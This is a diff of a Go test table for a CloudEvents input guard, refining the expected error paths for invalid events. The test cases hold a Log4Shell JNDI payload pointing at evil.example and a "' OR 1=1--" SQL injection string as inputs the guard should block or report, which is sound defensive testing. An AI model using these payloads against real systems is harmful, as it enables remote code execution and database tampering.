@@ -161,7 +161,8 @@ func TestCloudEvent(t *testing.T) {
 		{"protobuf data is binary", nil, newEvent("com.example.proto", "//shop/p", []byte{0x0a, 0x05, 0xff, 0xfe, 0x00, 0x80}, "application/protobuf"), nil, "", 0},
 		{"injection in subject", nil, withSubject(newEvent("com.example.x", "//shop/x", []byte(`{}`), "application/json"), "objects/${jndi:ldap://evil.example/a}"), guard.ErrBlocked, "records[0].subject", 0},
 		{"injection in extension", nil, withExt(newEvent("com.example.x", "//shop/x", []byte(`{}`), "application/json"), "tenant", "' OR 1=1--"), guard.ErrBlocked, "records[0].extensions.tenant", 0},
-		{"invalid event", nil, noID, guard.ErrRejected, "records[0]", 400},
+		{"invalid event", nil, noID, guard.ErrRejected, "records[0].id", 400},
+		{"zero event", nil, event.Event{}, guard.ErrRejected, "records[0].specversion", 400},
 		{"monitor mode runs the function", []guard.Option{guard.WithMode(guard.Monitor)}, pubsubEvent(`{"customer":"' OR 1=1--"}`, nil), nil, "records[0].body.customer", 0},
 		{"monitor mode, invalid base64", []guard.Option{guard.WithMode(guard.Monitor)}, invalidB64, nil, "records[0].data.message.data", 0},
 	}
